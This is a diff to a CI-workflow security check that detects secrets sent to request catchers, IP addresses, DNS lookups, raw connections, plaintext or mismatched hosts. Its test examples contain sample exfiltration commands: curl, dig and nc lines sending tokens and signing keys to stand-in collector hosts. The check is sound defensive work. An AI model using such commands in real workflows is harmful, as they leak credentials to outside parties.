@@ -17,27 +17,24 @@ export default defineCheck({
       severity: 'high',
       likelihood: 'likely',
       message: 'Secret is sent to a request-logging service or to an IP address',
-      fix: { any: REVOKE },
+      fix: REVOKE,
     },
     channel: {
       severity: 'high',
       likelihood: 'likely',
       message: 'Secret is sent through a raw connection or a DNS query',
-      fix: { any: REVOKE },
+      fix: REVOKE,
     },
     plaintext: {
       severity: 'medium',
-      likelihood: 'observed',
       message: 'Secret is sent over an unencrypted connection',
-      fix: { any: 'Use the `https:` address of the service, and rotate the secret.' },
+      fix: 'Use the `https:` address of the service, and rotate the secret.',
     },
     foreign: {
       severity: 'low',
       likelihood: 'possible',
       message: 'Secret is sent to a host that does not match its name',
-      fix: {
-        any: 'Make sure that the secret belongs to this host. Name the secret after its service, so that reviewers notice a wrong destination.',
-      },
+      fix: 'Make sure that the secret belongs to this host. Name the secret after its service, so that reviewers notice a wrong destination.',
     },
   },
   references: [
@@ -59,10 +56,9 @@ export default defineCheck({
   examples: () => [
     {
       name: 'to a request catcher, an address, a name server and a raw connection',
-      given: {
-        workflows: jobOn(
-          'push',
-          `- run: curl -d "t=\${{ secrets.API_TOKEN }}" https://abc123.webhook.site/
+      given: jobOn(
+        'push',
+        `- run: curl -d "t=\${{ secrets.API_TOKEN }}" https://abc123.webhook.site/
 - run: echo "$KEY" | base64 | curl --data @- https://203.0.113.9/x
   env: { KEY: "\${{ secrets.SIGNING_KEY }}" }
 - run: dig "\${{ secrets.API_TOKEN }}.collect.example"
@@ -70,44 +66,38 @@ export default defineCheck({
     VALUE="$KEY"
     echo "$VALUE" | nc collect.example 443
   env: { KEY: "\${{ secrets['SIGNING_KEY'] }}" }`,
-        ),
-      },
+      ),
       finds: ['collector', 'collector', 'channel', 'channel'],
     },
     {
       name: 'unencrypted, and to a host that has nothing to do with it',
-      given: {
-        workflows: jobOn(
-          'push',
-          `- run: |
+      given: jobOn(
+        'push',
+        `- run: |
     curl -H "Authorization: Bearer \${{ secrets.ACME_TOKEN }}" \\
       http://api.acme.example/deploy
 - run: wget --header "X-Key:$KEY" "https://stats.example.com/collect"
   env: { KEY: "\${{ secrets.SIGNING_KEY }}" }
 - run: curl -u "x:\${{ github.token }}" https://api.acme-mirror.example`,
-        ),
-      },
+      ),
       finds: ['plaintext', 'foreign', 'foreign'],
     },
     {
       name: 'to a second host that only begins like the first',
-      given: {
-        workflows: jobOn(
-          'push',
-          `- run: |
+      given: jobOn(
+        'push',
+        `- run: |
     curl https://hub.vendor.example https://vendor.example.collect.example -H "X-Auth: \${{ secrets.VENDOR_KEY }}"
     curl https://hub.vendor.example https://api.vendor.example -H "X-Auth: \${{ secrets.VENDOR_KEY }}"
     curl https://s3.vendor.example https://s3.vendor.example.cn -H "X-Auth: \${{ secrets.VENDOR_KEY }}"`,
-        ),
-      },
+      ),
       finds: ['foreign'],
     },
     {
       name: 'to the service it is for, to the own host, to a host that is a secret, and locally',
-      given: {
-        workflows: jobOn(
-          'push',
-          `- run: |
+      given: jobOn(
+        'push',
+        `- run: |
     curl -H "Authorization: Bearer \${{ secrets.VENDOR_TOKEN }}" https://api.vendor.example/v1
     curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user
     curl -d text=done "$HOOK"
@@ -123,8 +113,7 @@ export default defineCheck({
 - if: env.HAS == 'true'
   run: curl -d "has=$HAS" https://status.example
   env: { HAS: "\${{ secrets.API_TOKEN != '' }}" }`,
-        ),
-      },
+      ),
       finds: [],
     },
   ],
